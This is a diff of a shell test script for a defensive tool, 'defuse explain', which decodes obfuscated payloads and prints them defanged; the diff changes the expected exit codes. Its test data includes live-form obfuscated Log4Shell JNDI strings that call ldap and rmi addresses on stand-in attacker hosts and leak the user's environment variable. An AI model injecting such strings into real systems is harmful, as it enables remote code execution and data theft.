@@ -2,12 +2,12 @@
 # explain_basic.sh -- `defuse explain`: the step-by-step trace and the
 # result for an obfuscated payload, as text (defanged: no live "${" or
 # "://") and as JSON (payload, steps, findings; '$' as \u0024); payload
-# from an argument, stdin and --file; exit 0 for a harmless string, 1 for a
-# finding, 2 for usage errors.
+# from an argument, stdin and --file; exit 0 when explained (harmless or
+# not), 2 for usage errors.
 source "$(dirname "$0")/logs_lib.bash"
 cd "$T"
 P='%24%7B${lower:j}ndi:ldap://${env:USER}.evil.example:1389/Basic/Command/Base64/aWQ=%7D'
-"$DEFUSE" explain "$P" > out.txt; expect_rc 1 $? "explain finds the lookup"
+"$DEFUSE" explain "$P" > out.txt; expect_rc 0 $? "explain runs"
 expect_nogrep '${' out.txt "text output has no live \${"
 expect_nogrep '://' out.txt "text output has no live ://"
 expect_grep "decode" out.txt "decoding step shown"
@@ -16,7 +16,7 @@ expect_grep "env:USER" out.txt "victim value shown"
 expect_grep "ldap[:]//" out.txt "callback shown defanged"
 expect_grep "jndi" out.txt "kind shown"
 
-"$DEFUSE" explain --json "$P" > out.json; expect_rc 1 $? "explain --json"
+"$DEFUSE" explain --json "$P" > out.json; expect_rc 0 $? "explain --json"
 expect_nogrep '$' out.json "JSON has no raw \$"
 python3 - "$P" <<'PY' || fail "explain --json content"
 import json, sys
@@ -34,8 +34,8 @@ print("ok: JSON trace and finding")
 PY
 
 printf '%s\n' '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/b}' > p.txt
-"$DEFUSE" explain --json - < p.txt > a.json; expect_rc 1 $? "payload from stdin"
-"$DEFUSE" explain --json --file=p.txt > b.json; expect_rc 1 $? "payload from --file"
+"$DEFUSE" explain --json - < p.txt > a.json; expect_rc 0 $? "payload from stdin"
+"$DEFUSE" explain --json --file=p.txt > b.json; expect_rc 0 $? "payload from --file"
 python3 -c '
 import json
 for n in ("a.json", "b.json"):
